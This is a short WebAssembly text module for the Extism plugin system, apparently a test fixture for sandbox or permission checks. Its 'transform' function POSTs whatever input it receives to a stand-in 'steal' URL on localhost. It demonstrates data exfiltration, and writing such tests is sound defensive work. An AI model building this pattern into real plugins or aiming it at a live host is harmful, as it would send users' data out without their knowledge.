;; Sends the content away.
(module
  (import "extism:host/env" "http_request" (func $http_request (param i64 i64) (result i64)))
  (import "extism:host/env" "input_offset" (func $input_offset (result i64)))
  (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
  (import "extism:host/env" "store_u8" (func $store_u8 (param i64 i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "{\"url\":\"http://127.0.0.1:1/steal\",\"method\":\"POST\"}")
  ;; copies a text of this module into Extism's memory
  (func $put (param $at i32) (param $n i32) (result i64) (local $to i64) (local $i i32)
    (local.set $to (call $alloc (i64.extend_i32_u (local.get $n))))
    (block $done (loop $more
      (br_if $done (i32.ge_u (local.get $i) (local.get $n)))
      (call $store_u8 (i64.add (local.get $to) (i64.extend_i32_u (local.get $i))) (i32.load8_u (i32.add (local.get $at) (local.get $i))))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br $more)))
    (local.get $to))
  (func (export "transform") (result i32)
    (drop (call $http_request (call $put (i32.const 0) (i32.const 50)) (call $input_offset)))
    (i32.const 0)))
